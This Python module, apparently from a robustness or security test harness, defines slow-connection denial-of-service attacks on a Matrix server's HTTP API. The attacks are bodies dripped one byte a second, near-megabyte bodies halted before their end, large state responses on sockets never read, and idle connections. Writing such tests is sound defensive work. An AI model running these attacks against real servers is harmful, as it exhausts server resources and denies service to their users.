"""Attacks by connections that are slow, halted or never read."""

import socket
import time

from attacks.registry import raw
from matrix import V3, quote


@raw
def slow_bodies(mallory):
    """Bodies that are sent at one byte a second."""
    def drip(connection):
        connection.sendall(
            f"PUT {V3}/profile/{quote(mallory.me.user_id)}/displayname HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {mallory.me.token}\r\nContent-Length: 900000\r\n\r\n".encode())
        for _ in range(60):
            connection.sendall(b" ")
            time.sleep(1)

    while True:
        yield drip


@raw
def large_bodies_halted(mallory):
    """Bodies of almost a megabyte that stop before their last byte."""
    body = b'{"displayname":"' + b"x" * 990_000

    def halt(connection):
        connection.sendall(
            f"PUT {V3}/profile/{quote(mallory.me.user_id)}/displayname HTTP/1.1\r\nHost: a\r\n"
            f"Authorization: Bearer {mallory.me.token}\r\nContent-Length: {len(body) + 10}\r\n\r\n".encode())
        connection.sendall(body)
        time.sleep(60)

    while True:
        yield halt


@raw
def answers_that_nobody_reads(mallory):
    """Requests for large answers, on connections that are never read."""
    room = mallory.room(initial_state=[
        {"type": "org.big", "state_key": str(key), "content": {"t": "y" * 50_000}} for key in range(15)])

    def ask(connection):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
        for _ in range(20):
            connection.sendall(
                f"GET {V3}/rooms/{quote(room)}/state HTTP/1.1\r\nHost: a\r\n"
                f"Authorization: Bearer {mallory.me.token}\r\n\r\n".encode())
        time.sleep(60)

    while True:
        yield ask


@raw
def idle_connections(mallory):
    """Connections on which nothing is sent."""
    def wait(connection):
        connection.sendall(b"GET ")
        time.sleep(60)

    while True:
        yield wait
